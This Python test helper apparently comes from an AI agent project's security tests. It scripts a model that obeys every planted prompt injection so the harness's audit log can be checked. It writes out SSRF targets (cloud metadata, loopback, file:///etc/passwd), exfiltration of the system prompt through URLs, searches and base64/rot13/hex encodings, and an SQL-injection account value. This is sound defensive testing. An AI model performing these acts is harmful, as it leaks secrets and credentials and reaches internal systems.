"""A model that does whatever a text tells it to, as badly as it can.

Here: from an act of injections.py to the steps that a scripted model takes. It obeys only what it
sees: an injection is known by the word in front of it (`word`), in the data or in a tool's result.
"""

import base64
import codecs
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Any

from ledgerflow.agents.runner.scripted import Answer, Call, Say, Step, View, call
from tests.security.injections import ELSEWHERE, INJECTIONS

LETTERS = "bcdfghjklm"

ECHOES: dict[str, Callable[[str], str]] = {
    "plain": lambda t: t,
    "spaced": " ".join,
    "backwards": lambda t: t[::-1],
    "rot13": lambda t: codecs.encode(t, "rot13"),
    "base64": lambda t: base64.b64encode(t.encode()).decode(),
    "hex": lambda t: t.encode().hex(),
}
URLS = {
    "": (ELSEWHERE,),
    "metadata": ("http://169.254.169.254/latest/meta-data/iam",),
    "loopback": ("http://127.0.0.1:5432/", "http://localhost/admin"),
    "file": ("file:///etc/passwd",),
    "odd": ("http://0x7f000001/", "http://[::ffff:127.0.0.1]/"),
    "secret": ("https://user:secret@collect.example/in",),
}
ATTEMPTS = {
    "echo": {"leak"}, "carry": {"leak"}, "url": {"url_not_found"}, "tool": {"tool_unknown"},
    "account": {"account"}, "extra": {"output"}, "confidence": {"output"}, "say": {"output"},
    "quote": {"quote"}, "arguments": {"arguments"}, "flood": {"tool_limit"},
    "personal": set(), "markup": set(),
}  # fmt: skip
"""Act -> what must stand in the audit log; nothing where the answer itself is allowed."""


def word(number: int) -> str:
    """A word that names an injection, of letters that no mask and no normalising changes."""
    return "zq" + "".join(LETTERS[int(d)] for d in f"{number:03}")


WORDS = {word(number): one for number, one in enumerate(INJECTIONS)}


@dataclass
class Obeying:
    """The script: `obeyed` are the injections it saw and followed, by number of the run."""

    other_account: str
    searches: bool
    obeyed: list[str] = field(default_factory=list)
    prompts: list[str] = field(default_factory=list)

    def __call__(self, view: View) -> Step:
        """The next step: what is left of the acts, then an answer that is allowed."""
        seen = self._seen(view)
        if self.searches and not view.results:
            # The text is on the web: it has to be looked up, and the page read, to be seen.
            return call("search_web", query=f"payee {self._subject(view)}")
        if self.searches and len(view.results) == 1:
            found = view.results[0].value
            return call("read_page", url=found["results"][0]["url"])
        if seen is None:
            return self._answer(view)
        if not self.obeyed or self.obeyed[-1] != seen:
            self.obeyed.append(seen)
            self.prompts.append(view.system)
        steps = list(self._steps(view, WORDS[seen].act, WORDS[seen].text))
        done = len(view.results) + len(view.told) - (2 if self.searches else 0)
        return steps[done] if done < len(steps) else self._answer(view)

    def _subject(self, view: View) -> str:
        text = json.dumps(view.fields).lower()
        return next((one for one in WORDS if one in text), "none")

    def _seen(self, view: View) -> str | None:
        shown = [one.text for one in view.results] if self.searches else [json.dumps(view.fields)]
        text = " ".join(shown).lower()
        return next((one for one in WORDS if one in text), None)

    def _steps(self, view: View, act: str, text: str) -> list[Step]:
        what, _, how = act.partition(" ")
        steps: Mapping[str, Callable[[], list[Step]]] = {
            "tool": lambda: [call(how, account="1", text=text[:80])],
            "url": lambda: [call("read_page", url=url) for url in URLS[how]],
            "carry": lambda: [self._carry(view, how)],
            "echo": lambda: [self._echo(view, how)],
            "account": lambda: [self._account(view, how)],
            "extra": lambda: [self._answer(view, approve=True, sql=text[:50], rule={"all": True})],
            "confidence": lambda: [self._answer(view, confidence=7)],
            "quote": lambda: [self._answer(view, sources=[self._source()])],
            "say": lambda: [Say(text)],
            "arguments": lambda: [
                Call((("search_web", {"query": "a shop", "firm_id": 2, "admin": True}),))
            ],
            "flood": lambda: [call("search_web", query=f"shop {n}") for n in range(12)],
            "personal": lambda: [self._personal(view)],
            "markup": lambda: [self._answer(view, reason=text, payee_name=text[:60])],
        }
        return steps[what]()

    def _carry(self, view: View, how: str) -> Step:
        secret = view.system[:160]
        if how == "url":
            return call("read_page", url=f"{ELSEWHERE}?d={secret}")
        if how == "similar":
            return call("find_similar", description=secret)
        if how == "base64":
            secret = base64.b64encode(view.system[:120].encode()).decode()
        return call("search_web", query=secret)

    def _echo(self, view: View, how: str) -> Step:
        if how == "fields":
            return self._answer(view, reason=view.system[:150], payee_name=view.system[150:260])
        return self._answer(view, reason=ECHOES[how](view.system[:200]))

    def _account(self, view: View, how: str) -> Step:
        if not view.accounts:  # a kind that chooses none is told to name one all the same
            return self._answer(view, account=self.other_account)
        named = {"other": self.other_account, "made up": "999999999", "text": "1); DELETE"}
        return self._answer(view, account=named[how])

    def _personal(self, view: View) -> Step:
        draws = [pk for pk, label in view.accounts.items() if "draw" in label.lower()]
        given = {"account": draws[0]} if draws else {}
        return self._answer(view, confidence=1.0, **given)

    @staticmethod
    def _source() -> dict[str, str]:
        return {"url": ELSEWHERE, "title": "x", "quote": "never returned by anything"}

    @staticmethod
    def _answer(view: View, **changes: Any) -> Answer:
        """An answer that is allowed, with what an act changes."""
        if view.accounts:
            fields: dict[str, Any] = {"account": next(iter(view.accounts)), "confidence": 0.5}
        else:
            fields = {"payee_name": "A shop", "what": "It sells things.", "trade": "shop"}
            fields |= {"confidence": 0.5}
        return Answer(fields | {"reason": "It looks so."} | changes)
